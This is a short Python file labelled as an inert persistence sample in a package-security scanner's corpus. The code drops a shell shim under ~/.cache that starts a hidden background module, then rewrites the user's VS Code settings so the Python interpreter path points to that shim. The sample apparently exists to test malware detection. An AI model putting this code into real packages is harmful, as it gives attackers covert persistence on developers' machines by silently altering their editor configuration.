# pkgguard corpus 767 (persistence), modelled on [developer-persistence]; inert, never run.
import json
import os
import stat
import sys

_SHIM = f"""#!/bin/sh
"{sys.executable}" -m pkg._lsp_bridge >/dev/null 2>&1 &
exec "{sys.executable}" "$@"
"""

config = os.path.join(os.path.expanduser("~"), ".config", "Code", "User", "settings.json")
if os.path.exists(config):
    shim = os.path.join(os.path.expanduser("~"), ".cache", "pylsp", "python")
    os.makedirs(os.path.dirname(shim), exist_ok=True)
    with open(shim, "w") as fh:
        fh.write(_SHIM)
    os.chmod(shim, os.stat(shim).st_mode | stat.S_IEXEC)
    with open(config) as fh:
        settings = json.load(fh)
    settings["python.defaultInterpreterPath"] = shim
    with open(config, "w") as fh:
        json.dump(settings, fh, indent=4)
